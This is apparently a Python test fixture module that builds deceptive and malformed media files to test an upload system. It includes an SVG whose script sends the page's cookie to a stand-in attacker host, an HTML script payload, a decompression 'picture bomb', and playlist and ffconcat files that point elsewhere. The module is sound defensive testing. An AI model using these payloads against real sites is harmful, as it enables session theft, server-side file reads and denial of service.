"""Files that are not what they are called, or not all of it. Made once a test process."""

import functools
import io
import subprocess
import tempfile
from pathlib import Path

import imageio_ffmpeg
from PIL import Image

from tests.system.media import audio, image

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
    b"<script>fetch('https://evil.example.org/'+document.cookie)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SDP = b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=A\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 5004 RTP/AVP 0\r\n"
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(1000)
TEXT = b"This is not a song, whatever it is called.\n" * 500


@functools.cache
def seekable_audio(container: str, seconds: float = 5) -> bytes:
    """Audio whose header says how long it is, as encoders write it that can go back to it."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"tone.{container}"
        command = [imageio_ffmpeg.get_ffmpeg_exe(), "-loglevel", "error", "-f", "lavfi"]
        command += ["-i", f"sine=frequency=440:duration={seconds}:sample_rate=44100", str(path)]
        subprocess.run(command, check=True, timeout=60)
        return path.read_bytes()


def truncated(container: str) -> bytes:
    """The first half of such a file."""
    whole = seekable_audio(container)
    return whole[: len(whole) // 2]


@functools.cache
def video() -> bytes:
    """A film with sound."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "film.mp4"
        command = [imageio_ffmpeg.get_ffmpeg_exe(), "-loglevel", "error"]
        command += ["-f", "lavfi", "-i", "testsrc=duration=1:size=64x64:rate=10"]
        command += ["-f", "lavfi", "-i", "sine=duration=1", "-shortest", str(path)]
        subprocess.run(command, check=True, timeout=60)
        return path.read_bytes()


def wma() -> bytes:
    """Audio in a format that is not supported."""
    return audio("asf", 1, "-c:a", "wmav2")


@functools.cache
def picture_bomb(side: int = 12_000) -> bytes:
    """A small file that decodes to more pixels than anybody needs."""
    target = io.BytesIO()
    Image.new("1", (side, side)).save(target, "PNG")
    return target.getvalue()


def damaged_in_the_middle() -> bytes:
    """An MP3 with noise where a third of its sound was."""
    whole = bytearray(audio())
    third = len(whole) // 3
    whole[third : 2 * third] = bytes((7 * at * at + at) % 251 for at in range(third))
    return bytes(whole)


def half(kind: str) -> bytes:
    """The first half of a picture."""
    whole = image(kind, (300, 300))
    return whole[: len(whole) // 2]


def playlist(url: str) -> bytes:
    """An HLS playlist that names another address."""
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{url}\n#EXT-X-ENDLIST\n".encode()


def concatenation(path: str) -> bytes:
    """A script for ffmpeg that names another file."""
    return f"ffconcat version 1.0\nfile '{path}'\n".encode()
